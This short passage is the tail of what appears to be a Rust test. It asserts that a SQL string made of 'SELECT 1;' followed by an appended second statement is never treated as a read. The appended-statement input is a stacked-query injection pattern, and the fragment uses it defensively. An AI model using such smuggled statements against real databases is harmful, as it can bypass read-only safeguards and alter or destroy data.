        assert_never_read(&format!("SELECT 1; {tail}"));
    }
}
